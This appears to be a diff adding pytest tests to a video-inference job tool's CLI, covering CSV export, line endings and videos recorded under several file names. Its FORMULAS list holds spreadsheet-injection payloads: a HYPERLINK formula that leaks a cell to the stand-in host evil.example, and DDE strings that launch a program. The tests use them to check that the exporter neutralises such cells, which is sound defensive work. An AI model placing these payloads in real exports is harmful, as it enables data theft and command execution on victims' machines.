@@ -280,3 +280,142 @@ def test_a_dead_database_is_a_readable_error(tmp_path: Path) -> None:
 def test_a_bad_since_is_a_usage_error(tmp_path: Path) -> None:
     result = run_cli("list", "--since", "last tuesday", url=None, cwd=tmp_path)
     assert result.returncode == 2 and "neither a date/time" in result.stderr
+
+
+# --- exports that a spreadsheet opens (issue 9 item 10) -------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+@pytest.fixture
+def hostile_rows(session: Session, model: Model) -> dict[str, int]:
+    """A job whose labels (they come from the checkpoint) and error are formulas."""
+    job, _ = jobs.record_file(session, "/inbox/formulas.mp4", digest("formulas"), 100, model)
+    jobs.claim_job(session, job.id, "celery@host", max_attempts=3)
+    jobs.complete_job(
+        session,
+        job.id,
+        predictions=[(label, 0.5 - rank / 100) for rank, label in enumerate(FORMULAS)],
+        expert_usage=[(1.0, 1)],
+        video_meta={},
+        decode_ms=1.0,
+        inference_ms=1.0,
+    )
+    failed, _ = jobs.record_file(session, "/inbox/failed.mp4", digest("failed"), 10, model)
+    jobs.fail_job(session, failed.id, "=1+1 cannot decode")
+    return {"formulas": job.id, "failed": failed.id}
+
+
+@sqlite_only
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run(
+    store_url: str, hostile_rows: dict[str, int], tmp_path: Path
+) -> None:
+    target = tmp_path / "results.csv"
+    result = run_cli("export", "-o", str(target), url=store_url, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    raw = target.read_bytes().decode("utf-8")
+    records = {int(r["job_id"]): r for r in csv.DictReader(io.StringIO(raw, newline=""))}
+    labels = [records[hostile_rows["formulas"]][f"label_{i + 1}"] for i in range(len(FORMULAS))]
+    assert labels == ["'" + formula for formula in FORMULAS]
+    assert records[hostile_rows["failed"]]["error"] == "'=1+1 cannot decode"
+    # Quoted as well (OWASP): the quote's escaping and the ' prefix are inside the quotes.
+    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"' in raw
+    assert ",\"'+cmd|' /C calc'!A0\"," in raw
+    # Ordinary text and numbers are left as they are.
+    assert records[hostile_rows["formulas"]]["path"] == "/inbox/formulas.mp4"
+    assert records[hostile_rows["formulas"]]["confidence_1"] == "0.5"
+
+
+@sqlite_only
+def test_export_csv_ends_every_line_with_crlf(store_url: str, rows, tmp_path: Path) -> None:
+    target = tmp_path / "results.csv"
+    assert run_cli("export", "-o", str(target), url=store_url, cwd=tmp_path).returncode == 0
+    raw = target.read_bytes()
+    assert raw.endswith(b"\r\n")
+    lines = raw.split(b"\r\n")[:-1]
+    assert len(lines) == 1 + len(rows)  # the header, then a job per line
+    assert not any(b"\n" in line or b"\r" in line for line in lines)
+    # Standard output carries the same bytes.
+    piped = subprocess.run(
+        [sys.executable, "-m", "storage", "--database-url", store_url, "export"],
+        capture_output=True,
+        cwd=tmp_path,
+        timeout=120,
+    )
+    assert piped.returncode == 0 and piped.stdout == raw
+
+
+# --- a video under several names (issue 9 item 14) ------------------------------------------
+
+
+@pytest.fixture
+def renamed(session: Session, model: Model) -> dict[str, int]:
+    """One content recorded as first.mp4, then seen as second.mp4 and third.mp4; its job
+    failed reading first.mp4. Another video under one name only."""
+    job, _ = jobs.record_file(session, "/inbox/first.mp4", digest("same"), 100, model)
+    for name in ("second", "third"):
+        again, created = jobs.record_file(session, f"/inbox/{name}.mp4", digest("same"), 100, model)
+        assert (again.id, created) == (job.id, False)
+    jobs.claim_job(session, job.id, "celery@host", max_attempts=3)
+    jobs.fail_job(session, job.id, "cannot read '/inbox/first.mp4' as a video: moov atom not found")
+    single, _ = jobs.record_file(session, "/inbox/single.mp4", digest("single"), 10, model)
+    return {"renamed": job.id, "single": single.id}
+
+
+@sqlite_only
+def test_list_shows_the_path_the_job_used_and_how_many_more(
+    store_url: str, renamed: dict[str, int], tmp_path: Path
+) -> None:
+    result = run_cli("list", url=store_url, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    (line,) = [
+        row for row in result.stdout.splitlines() if row.split()[:1] == [str(renamed["renamed"])]
+    ]
+    # The error is about first.mp4, and so is the name shown next to it.
+    assert "  /inbox/first.mp4 (+2 more): cannot read '/inbox/first.mp4' as a video" in line
+    (single,) = [row for row in result.stdout.splitlines() if "single.mp4" in row]
+    assert single.endswith("/inbox/single.mp4")
+
+
+def test_list_shows_the_path_the_worker_read(
+    store_url: str, session: Session, model: Model, tmp_path: Path
+) -> None:
+    job, _ = jobs.record_file(session, "/inbox/old name.mp4", digest("moved"), 100, model)
+    jobs.record_file(session, "/inbox/new name.mp4", digest("moved"), 100, model)
+    jobs.record_file(session, "/inbox/newest name.mp4", digest("moved"), 100, model)
+    jobs.claim_job(session, job.id, "celery@host", max_attempts=3)
+    # The worker read the second name (the newest was already gone, say).
+    jobs.fail_job(session, job.id, "it is a still image (png)", path="/inbox/new name.mp4")
+    result = run_cli("list", url=store_url, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert "/inbox/new name.mp4 (+2 more): it is a still image (png)" in result.stdout
+
+
+def test_export_carries_every_path_of_a_video(
+    store_url: str, renamed: dict[str, int], tmp_path: Path
+) -> None:
+    every = ["/inbox/first.mp4", "/inbox/second.mp4", "/inbox/third.mp4"]
+    as_csv = run_cli("export", url=store_url, cwd=tmp_path)
+    assert as_csv.returncode == 0, as_csv.stderr
+    reader = csv.DictReader(io.StringIO(as_csv.stdout))
+    assert reader.fieldnames[reader.fieldnames.index("path") + 1] == "paths"
+    records = {int(r["job_id"]): r for r in reader}
+    assert records[renamed["renamed"]]["path"] == "/inbox/first.mp4"
+    assert json.loads(records[renamed["renamed"]]["paths"]) == every
+    assert json.loads(records[renamed["single"]]["paths"]) == ["/inbox/single.mp4"]
+
+    as_json = run_cli("export", "--format", "json", url=store_url, cwd=tmp_path)
+    assert as_json.returncode == 0, as_json.stderr
+    by_id = {r["job_id"]: r for r in json.loads(as_json.stdout)}
+    assert (by_id[renamed["renamed"]]["path"], by_id[renamed["renamed"]]["paths"]) == (
+        "/inbox/first.mp4",
+        every,
+    )
